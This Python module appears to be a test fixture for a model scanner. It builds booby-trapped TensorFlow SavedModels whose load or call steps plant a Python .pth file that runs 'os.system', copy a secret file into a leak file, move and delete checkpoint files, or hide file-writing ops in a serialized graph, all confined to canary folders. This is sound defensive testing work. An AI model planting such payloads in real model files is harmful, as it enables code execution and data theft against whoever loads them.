"""SavedModels that read, write, glob, move files or call Python when loaded or called.

Each payload runs either in the serving function (on the first call) or in a resource
initializer (inside ``tf.saved_model.load`` itself, before jacgui sees a signature). A payload
that reads a file copies what it read into a canary, so that every attack is observable.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

from jacgui.core._tf import tf
from tests.attacks import Attack, canary_folder

#: Ops a payload can be built around; "DatasetFromGraph" hides its ops in a serialized graph.
PAYLOAD_OPS = (
    "WriteFile", "ReadFile", "MatchingFiles", "Save", "SaveV2", "MergeV2Checkpoints",
    "RestoreV2", "InitializeTableFromTextFileV2", "DumpTensor", "PrintV2", "PyFunc",
    "DatasetFromGraph",
)  # fmt: skip

#: PyFunc calls a Python function registered in the running process by token: in a fresh
#: process the token is unknown, so the attack is refused but cannot be shown to run.
NOT_LIVE_ACROSS_PROCESSES = frozenset({"PyFunc"})

SECRET = b"secret-token 1234\n"


def build_op_attack(folder: Path, op: str, place: str = "serve") -> Attack:
    """A SavedModel whose serving function (``place="serve"``) or resource initializer
    (``place="init"``) runs a payload built around ``op``."""
    t = tf()
    root, site = canary_folder(folder)
    secret = root / "secret.txt"
    secret.write_bytes(SECRET)
    payload, attack = _payload(op, root, site, secret)

    class Model(t.Module):
        @t.function(input_signature=[t.TensorSpec((None, 2), t.float32, name="x")])
        def serve(self, x: Any) -> Any:
            if place == "serve":
                with t.control_dependencies([_effect(payload, self)]):
                    x = t.identity(x)
            return {"y": x * 2.0}

    model = Model()
    model.runs = t.Variable(0.0)

    class Trap(t.saved_model.experimental.TrackableResource):
        def _create_resource(self) -> Any:
            return t.raw_ops.HashTableV2(key_dtype=t.string, value_dtype=t.string)

        def _initialize(self) -> Any:
            return _effect(payload, model)

    if op == "DatasetFromGraph":
        # The pipeline travels as data: a string variable restored from variables/.
        model.blob = t.Variable(_serialized_dataset(root))
    if place == "init":
        model.trap = Trap()
    path = folder / f"{op.lower()}-{place}"
    t.saved_model.save(model, str(path), signatures={"serving_default": model.serve})
    return Attack(path, attack.canaries, site, attack.victims)


def _effect(payload: Callable[[Any], Any], owner: Any) -> Any:
    """A variable update that waits for the payload.

    TensorFlow runs every stateful op of a function except a few (``SaveV2``) that it runs only
    when something depends on them, and a resource initializer's return value is dropped; a
    variable update is always run, so the payload is made its control input.
    """
    t = tf()
    with t.control_dependencies([payload(owner)]):
        return owner.runs.assign_add(1.0)


def _payload(op: str, root: Path, site: Path, secret: Path) -> tuple[Callable[[Any], Any], Attack]:
    t = tf()
    pth = site / "evil.pth"
    leak = root / "leak.txt"
    line = "import os; os.system('echo pwned')\n"
    if op == "WriteFile":
        return (lambda owner: t.io.write_file(str(pth), line)), Attack(pth, (pth,))
    if op == "ReadFile":
        return (lambda owner: t.io.write_file(str(leak), t.io.read_file(str(secret)))), Attack(
            leak, (leak,))
    if op == "MatchingFiles":
        def glob_and_drop(owner: Any) -> Any:
            found = t.io.matching_files(str(root / "*" / "*" / "site-packages"))
            return t.io.write_file(t.strings.join([found[0], "evil.pth"], separator=os.sep), line)

        return glob_and_drop, Attack(pth, (pth,))
    if op == "Save":
        return (lambda owner: t.raw_ops.Save(filename=str(pth), tensor_names=["line"],
                                             data=[t.constant(line)])), Attack(pth, (pth,))
    if op == "SaveV2":
        prefix = root / "written"
        return (lambda owner: t.raw_ops.SaveV2(
            prefix=str(prefix), tensor_names=["line"], shape_and_slices=[""],
            tensors=[t.constant(line)])), Attack(prefix, (Path(f"{prefix}.index"),))
    if op == "MergeV2Checkpoints":
        victim = root / "victim"
        _checkpoint(victim)
        victims = {p: p.read_bytes() for p in root.glob("victim.*")}
        moved = root / "moved"
        return (lambda owner: t.raw_ops.MergeV2Checkpoints(
            checkpoint_prefixes=[str(victim)], destination_prefix=str(moved),
            delete_old_dirs=True)), Attack(moved, (Path(f"{moved}.index"),), victims=victims)
    if op == "RestoreV2":
        victim = root / "victim"
        _checkpoint(victim)

        def restore(owner: Any) -> Any:
            value = t.raw_ops.RestoreV2(prefix=str(victim), tensor_names=["secret"],
                                        shape_and_slices=[""], dtypes=[t.string])[0]
            return t.io.write_file(str(leak), value)

        return restore, Attack(leak, (leak,))
    if op == "InitializeTableFromTextFileV2":
        def table(owner: Any) -> Any:
            handle = t.raw_ops.HashTableV2(key_dtype=t.string, value_dtype=t.int64)
            t.raw_ops.InitializeTableFromTextFileV2(
                table_handle=handle, filename=str(secret), key_index=-2, value_index=-1)
            size = t.raw_ops.LookupTableSizeV2(table_handle=handle)
            return t.io.write_file(str(leak), t.strings.as_string(size))

        return table, Attack(leak, (leak,))
    if op == "DumpTensor":
        from tensorflow.python.framework import op_def_library

        dumps = root / "dumps"

        def dump(owner: Any) -> Any:
            _, _, dump_op, _ = op_def_library._apply_op_helper(  # the op has no public wrapper
                "DumpTensor", tensor_data=t.constant([1.0]), log_dir_path=str(dumps),
                file_name="dump.npy", enabled=True, func_name="f", node_name="n")
            return dump_op

        return dump, Attack(dumps, (dumps,))
    if op == "PrintV2":
        log = root / "printed.txt"
        return (lambda owner: t.print(line, output_stream=f"file://{log}")), Attack(log, (log,))
    if op == "PyFunc":
        def run_python() -> Any:
            pth.write_text(line)
            return 0.0

        return (lambda owner: t.numpy_function(run_python, [], t.float64)), Attack(pth, (pth,))
    if op == "DatasetFromGraph":
        def rebuild_and_run(owner: Any) -> Any:
            variant = t.raw_ops.DatasetFromGraph(graph_def=owner.blob)
            dataset = t.data.experimental.from_variant(variant, t.TensorSpec([], t.string))
            return dataset.reduce(t.constant(0), lambda count, _: count + 1)

        return rebuild_and_run, Attack(pth, (pth,))
    raise ValueError(f"no payload for {op}")


def _serialized_dataset(root: Path) -> Any:
    """A tf.data pipeline that globs for site-packages and drops a .pth, as a GraphDef string."""
    t = tf()
    pattern = str(root / "*" / "*" / "site-packages")

    def drop(folder: Any) -> Any:
        write = t.io.write_file(t.strings.join([folder, "evil.pth"], separator=os.sep),
                                "import os; os.system('echo pwned')\n")
        with t.control_dependencies([write]):
            return t.identity(folder)

    dataset = t.data.Dataset.from_tensors(pattern).flat_map(
        lambda p: t.data.Dataset.from_tensor_slices(t.io.matching_files(p))).map(drop)
    return dataset._as_serialized_graph()  # the graph jacgui's scan must not need to read


def _checkpoint(prefix: Path) -> None:
    t = tf()
    t.raw_ops.SaveV2(prefix=str(prefix), tensor_names=["secret"], shape_and_slices=[""],
                     tensors=[t.constant(SECRET)])


def build_tf1_savedmodel(folder: Path) -> Attack:
    """A TF1 SavedModel (no object graph) whose main op writes a file when it is loaded."""
    t = tf()
    root, site = canary_folder(folder)
    pth = site / "evil.pth"
    path = folder / "tf1"
    v1 = t.compat.v1
    with t.Graph().as_default(), v1.Session() as session:
        x = v1.placeholder(t.float32, [None, 2], name="x")
        y = t.identity(x * 2.0, name="y")
        main_op = t.io.write_file(str(pth), "import os\n")
        builder = v1.saved_model.Builder(str(path))
        signature = v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder.add_meta_graph_and_variables(
            session, ["serve"], signature_def_map={"serving_default": signature},
            main_op=main_op)
        builder.save()
    return Attack(path, (pth,), site)


def build_primitive_call(folder: Path) -> Path:
    """A clean SavedModel edited so that its serving function calls ``PartitionedCall`` with
    ``f`` naming the primitive op ``WriteFile`` instead of a library function."""
    t = tf()
    from tensorflow.core.protobuf import saved_model_pb2

    class Model(t.Module):
        @t.function(input_signature=[t.TensorSpec((None, 2), t.float32, name="x")])
        def serve(self, x: Any) -> Any:
            return {"y": x * 2.0}

    model = Model()
    path = folder / "primitive-call"
    t.saved_model.save(model, str(path), signatures={"serving_default": model.serve})
    proto = saved_model_pb2.SavedModel()
    proto.ParseFromString((path / "saved_model.pb").read_bytes())
    library = proto.meta_graphs[0].graph_def.library
    target = next(f for f in library.function if "serve" in f.signature.name
                  and "signature_wrapper" not in f.signature.name)
    node = target.node_def.add()
    node.name = "sneaky"
    node.op = "PartitionedCall"
    node.attr["f"].func.name = "WriteFile"
    (path / "saved_model.pb").write_bytes(proto.SerializeToString())
    return path
